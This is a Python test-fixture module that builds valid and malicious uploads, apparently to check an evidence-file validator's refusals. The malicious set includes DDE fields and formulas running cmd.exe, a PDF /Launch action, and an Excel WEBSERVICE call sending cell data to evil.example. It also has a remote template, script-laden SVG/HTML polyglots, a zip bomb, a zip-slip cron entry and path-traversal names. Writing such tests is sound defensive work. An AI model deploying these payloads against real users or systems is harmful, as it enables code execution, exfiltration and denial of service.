"""Files for the evidence tests, made here: good ones (PDF, PNG, JPEG, DOCX, XLSX, ODS, CSV, TXT)
and bad ones (each with the reason it must be refused for)."""

from __future__ import annotations

import io
import zipfile

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="word/document.xml"/></Relationships>'
)


def document_xml(body: str = "<w:p><w:r><w:t>Procès-verbal</w:t></w:r></w:p>") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body>{body}</w:body></w:document>"
    )


def docx(
    extra: dict[str, bytes | str] | None = None, body: str | None = None, rels: str | None = None
) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES)
        z.writestr("_rels/.rels", ROOT_RELS)
        z.writestr("word/document.xml", document_xml(body) if body else document_xml())
        if rels:
            z.writestr("word/_rels/document.xml.rels", rels)
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return buffer.getvalue()


def xlsx(formula: str | None = None) -> bytes:
    import openpyxl  # noqa: PLC0415

    book = openpyxl.Workbook()
    sheet = book.active
    sheet["A1"] = "Contrôle"
    sheet["B1"] = 42
    if formula:
        sheet["C1"] = formula
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def pdf(extra: bytes = b"") -> bytes:
    from reportlab.pdfgen import canvas  # noqa: PLC0415

    buffer = io.BytesIO()
    page = canvas.Canvas(buffer)
    page.drawString(72, 720, "Rapport de test de sauvegarde")
    page.save()
    data = buffer.getvalue()
    return data + extra


def pdf_with(key: str) -> bytes:
    """A small hand-written PDF whose catalogue carries ``key`` (e.g. an /OpenAction)."""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {key} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        "<< /S /JavaScript /JS (app.alert(1)) >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n{body}\nendobj\n".encode())
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


def png() -> bytes:
    from PIL import Image  # noqa: PLC0415

    buffer = io.BytesIO()
    Image.new("RGB", (40, 20), "navy").save(buffer, format="PNG")
    return buffer.getvalue()


def jpeg() -> bytes:
    from PIL import Image  # noqa: PLC0415

    buffer = io.BytesIO()
    Image.new("RGB", (40, 20), "teal").save(buffer, format="JPEG")
    return buffer.getvalue()


def zip_of(entries: dict[str, bytes], *, symlink: str | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES)
        z.writestr("_rels/.rels", ROOT_RELS)
        z.writestr("word/document.xml", document_xml())
        for name, data in entries.items():
            z.writestr(name, data)
        if symlink:
            info = zipfile.ZipInfo(symlink)
            info.external_attr = 0o120777 << 16
            z.writestr(info, "/etc/passwd")
    return buffer.getvalue()


DDE_BODY = (
    '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
)
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 48
    + b"PE\x00\x00"
    + b"\x00" * 200
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"


def good_files() -> list[tuple[str, bytes, str]]:
    """(name, content, media type expected)."""
    return [
        ("Procès-verbal de réunion.pdf", pdf(), "application/pdf"),
        ("capture écran 1.png", png(), "image/png"),
        ("photo armoire.jpg", jpeg(), "image/jpeg"),
        (
            "note d'étape.docx",
            docx(),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (
            "inventaire matériel.xlsx",
            xlsx("=SUM(B1:B1)"),
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        ("export comptes.csv", "nom;rôle\nÉlodie;RSSI\n".encode(), "text/csv"),
        ("compte rendu été.txt", "Réunion du comité : sauvegardes testées.\n".encode(), "text/plain"),
    ]


def bad_files() -> list[tuple[str, str, bytes, str]]:
    """(case, name, content, words of the reason)."""
    bomb = zip_bomb(30 * 1024 * 1024)  # 30 MiB of zeros in ~30 KiB: a ratio of ~1000:1
    return [
        ("empty", "vide.pdf", b"", "vide"),
        ("elf renamed", "rapport.pdf", ELF, "exécutable"),
        ("pe renamed", "photo.png", PE, "exécutable"),
        ("eicar", "eicar.txt", EICAR, "EICAR"),
        ("svg", "logo.png", SVG, "SVG"),
        ("html", "page.txt", HTML, "HTML"),
        ("bare zip", "archive.docx", _bare_zip(), "archives"),
        ("pdf javascript", "doc.pdf", pdf_with("/Names << /JavaScript 4 0 R >>"), "contenu actif"),
        ("pdf openaction", "doc.pdf", pdf_with("/OpenAction 4 0 R"), "contenu actif"),
        ("pdf launch", "doc.pdf", pdf_with("/OpenAction << /S /Launch /F (calc.exe) >>"), "contenu actif"),
        ("pdf aa hex-escaped", "doc.pdf", pdf_with("/#41A << /O 4 0 R >>"), "contenu actif"),
        ("pdf + zip polyglot", "doc.pdf", pdf(extra=_bare_zip()), "polyglotte"),
        ("png + html polyglot", "image.png", png() + b"<html><script>alert(1)</script></html>", "polyglotte"),
        ("zip bomb", "gros.docx", bomb, "bombe"),
        ("nested archive", "imbrique.docx", zip_of({"word/embeddings/inner.zip": _bare_zip()}), "imbriquée"),
        ("zip slip", "slip.docx", zip_of({"../../etc/cron.d/x": b"* * * * * root id"}), "zip-slip"),
        ("symlink entry", "lien.docx", zip_of({}, symlink="word/media/link"), "lien symbolique"),
        (
            "docx attached template",
            "modele.docx",
            docx(
                extra={
                    "word/_rels/settings.xml.rels": (
                        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                        'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
                        'TargetMode="External"/>'
                        "</Relationships>"
                    )
                }
            ),
            "contenu externe",
        ),
        (
            "xlsx webservice",
            "calc.xlsx",
            xlsx('=WEBSERVICE("http://evil.example/?"&B1)'),
            "appelle l'extérieur",
        ),
        (
            "xlsx hyperlink formula",
            "calc.xlsx",
            xlsx('=HYPERLINK("http://evil.example","x")'),
            "appelle l'extérieur",
        ),
        ("xlsx dde", "calc.xlsx", xlsx("=cmd|' /C calc'!A0"), "appelle l'extérieur"),
        (
            "docx dde field",
            "dde.docx",
            docx(body=DDE_BODY),
            "appelle l'extérieur",
        ),
        ("path in name", "../../etc/passwd.txt", b"bonjour\n", "chemin"),
        ("backslash in name", "dossier\\\\note.txt", b"bonjour\n", "chemin"),
        ("nul in name", "note\x00.txt", b"bonjour\n", "nul"),
    ]


def zip_bomb(size: int) -> bytes:
    """A DOCX-shaped zip with one entry of ``size`` zero bytes, written in pieces."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES)
        z.writestr("_rels/.rels", ROOT_RELS)
        z.writestr("word/document.xml", document_xml())
        with z.open("word/media/padding.bin", "w", force_zip64=True) as entry:
            block = b"\x00" * (1024 * 1024)
            for _ in range(size // len(block)):
                entry.write(block)
    return buffer.getvalue()


def _bare_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("a.txt", "bonjour")
    return buffer.getvalue()
